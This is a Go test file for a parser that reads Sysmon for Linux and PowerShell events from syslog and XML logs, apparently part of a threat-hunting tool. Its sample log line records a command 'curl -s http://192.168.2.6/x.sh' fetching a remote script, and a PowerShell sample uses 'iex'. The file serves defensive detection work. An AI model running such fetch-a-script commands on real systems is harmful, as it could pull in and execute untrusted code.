package syslog

import (
	"context"
	"strings"
	"testing"

	"github.com/exechunt/exechunt/tables/event"
	"github.com/exechunt/exechunt/tables/source"
)

const sysmonLine = `May 11 18:10:23 UBUNTU5 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID>` +
	`<TimeCreated SystemTime="2022-05-11T18:10:23.5Z"/><EventRecordID>7</EventRecordID><Channel>Linux-Sysmon/Operational</Channel>` +
	`<Computer>UBUNTU5</Computer></System><EventData><Data Name="ProcessId">17801</Data><Data Name="Image">/usr/bin/curl</Data>` +
	`<Data Name="CommandLine">curl -s http://192.168.2.6/x.sh</Data></EventData></Event>`

func read(t *testing.T, text string) ([]event.Record, []string, source.Stats) {
	t.Helper()
	var recs []event.Record
	var problems []string
	opt := &source.Options{Problem: func(p *source.Problem) { problems = append(problems, p.Error()) }}
	st, err := Read(context.Background(), strings.NewReader(text), "test.log", "syslog", opt, func(r *event.Record) error {
		recs = append(recs, *r)
		return nil
	})
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	return recs, problems, st
}

func get(r event.Record, name string) string {
	if r.Data == nil {
		return ""
	}
	v, _ := r.Data.Get(name)
	return v
}

func TestRead(t *testing.T) {
	for _, tc := range []struct {
		name     string
		text     string
		records  int
		problems []string // substrings, in order
		check    func(t *testing.T, recs []event.Record)
	}{
		{name: "sysmon line", text: sysmonLine + "\n", records: 1, check: func(t *testing.T, recs []event.Record) {
			r := recs[0]
			if r.EventID != 1 || r.RecordID != 7 || r.Computer != "UBUNTU5" || r.Locator != "line 1" || r.Format != "syslog" ||
				get(r, "CommandLine") != "curl -s http://192.168.2.6/x.sh" {
				t.Errorf("record %+v", r)
			}
		}},
		{name: "other programs skipped", text: "May 11 18:10:20 UBUNTU5 systemd[1]: Started Session 12.\n" +
			"May 11 18:10:21 UBUNTU5 app: <EventData>not an event</EventData>\n" + sysmonLine + "\n", records: 1,
			check: func(t *testing.T, recs []event.Record) {
				if recs[0].Locator != "line 3" {
					t.Errorf("locator %q", recs[0].Locator)
				}
			}},
		{name: "malformed event reported, reading goes on",
			text:    `May 11 18:10:24 UBUNTU5 sysmon: <Event><System><EventID>1</EventID><Broken></System></Event>` + "\n" + sysmonLine,
			records: 1, problems: []string{"line 1"}},
		{name: "cut short by syslog kept and flagged",
			text:    sysmonLine[:strings.Index(sysmonLine, "<Data Name=\"CommandLine\">")+40] + "\n",
			records: 1, problems: []string{"cut short"}, check: func(t *testing.T, recs []event.Record) {
				if !recs[0].Truncated || get(recs[0], "Image") != "/usr/bin/curl" {
					t.Errorf("truncated record %+v", recs[0])
				}
			}},
		{name: "two events on one line", text: sysmonLine + " " + sysmonLine[strings.Index(sysmonLine, "<Event>"):] + "\n", records: 2},
		{name: "no trailing newline", text: sysmonLine, records: 1},
		{name: "empty", text: "", records: 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			recs, problems, st := read(t, tc.text)
			if len(recs) != tc.records || st.Emitted != int64(tc.records) {
				t.Fatalf("%d records (stats %+v), want %d; problems %v", len(recs), st, tc.records, problems)
			}
			if len(problems) != len(tc.problems) {
				t.Fatalf("problems %v, want %d", problems, len(tc.problems))
			}
			for i, want := range tc.problems {
				if !strings.Contains(problems[i], want) {
					t.Errorf("problem %q lacks %q", problems[i], want)
				}
			}
			if tc.check != nil {
				tc.check(t, recs)
			}
		})
	}
}

// TestXMLEventsSpanLines: in .xml input (wevtutil) an event's text may hold line
// breaks; its lines are joined. Syslog input keeps one event per line.
func TestXMLEventsSpanLines(t *testing.T) {
	script := "<Event><System><Provider Name=\"Microsoft-Windows-PowerShell\"/><EventID>4104</EventID><EventRecordID>%d</EventRecordID></System>" +
		"<EventData><Data Name=\"ScriptBlockText\">$a = 1\r\nWrite-Host $a\n\niex $b</Data><Data Name=\"Path\"></Data></EventData></Event>"
	one := strings.Replace(script, "%d", "1", 1)
	two := strings.Replace(script, "%d", "2", 1)
	for _, tc := range []struct {
		name, format, text string
		records            int
		texts              []string
		problems           int
	}{
		{"xml, two multi-line events", "xml", "<Events>\r\n" + one + "\r\n" + two + "</Events>\r\n", 2,
			[]string{"$a = 1\nWrite-Host $a\n\niex $b", "$a = 1\nWrite-Host $a\n\niex $b"}, 0},
		{"xml, an event cut by the next", "xml", one[:strings.Index(one, "Write-Host")+5] + "\n" + two + "\n", 2,
			[]string{"$a = 1\nWrite", "$a = 1\nWrite-Host $a\n\niex $b"}, 1},
		{"xml, cut by the end of the file", "xml", one[:strings.Index(one, "iex")], 1, []string{"$a = 1\nWrite-Host $a"}, 1},
		{"syslog stays one event per line", "syslog", one + "\n", 1, []string{"$a = 1"}, 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var texts []string
			problems := 0
			opt := &source.Options{Problem: func(*source.Problem) { problems++ }}
			st, err := Read(context.Background(), strings.NewReader(tc.text), "x.xml", tc.format, opt, func(r *event.Record) error {
				texts = append(texts, event.Normalize(r, false).ScriptText)
				return nil
			})
			if err != nil || st.Emitted != int64(tc.records) || problems != tc.problems {
				t.Fatalf("err=%v stats=%+v problems=%d", err, st, problems)
			}
			for i, want := range tc.texts {
				if texts[i] != want {
					t.Errorf("script %d = %q, want %q", i, texts[i], want)
				}
			}
		})
	}
}

func TestReadLongLineSkipped(t *testing.T) {
	long := "May 11 18:10:20 host app: " + strings.Repeat("x", source.DefaultMaxLine+10) + "\n"
	recs, problems, _ := read(t, long+sysmonLine+"\n")
	if len(recs) != 1 || len(problems) != 1 || !strings.Contains(problems[0], "line 1") {
		t.Errorf("records %d, problems %v", len(recs), problems)
	}
}

// FuzzRead: any text is read without panicking, every event is either emitted or
// reported, and what is emitted names its line.
func FuzzRead(f *testing.F) {
	f.Add(sysmonLine + "\n")
	f.Add("x <Event><System></System></Event>\n<Event")
	f.Add("<Event xmlns='a'><EventData><Data Name='A'>&lt;</Data></EventData>")
	f.Add("<Event><EventData><Data Name='A'>a\r\nb</Data>\n</EventData></Event><Event>\n<Event")
	f.Fuzz(func(t *testing.T, text string) {
		var emitted, reported int
		opt := &source.Options{Problem: func(*source.Problem) { reported++ }}
		format := "syslog"
		if len(text)%2 == 1 {
			format = "xml" // events may span lines
		}
		st, _ := Read(context.Background(), strings.NewReader(text), "fuzz.log", format, opt, func(r *event.Record) error {
			emitted++
			if !strings.HasPrefix(r.Locator, "line ") {
				t.Fatalf("locator %q", r.Locator)
			}
			return nil
		})
		if int64(emitted) != st.Emitted || int64(emitted) > st.Records {
			t.Fatalf("emitted %d, stats %+v", emitted, st)
		}
	})
}
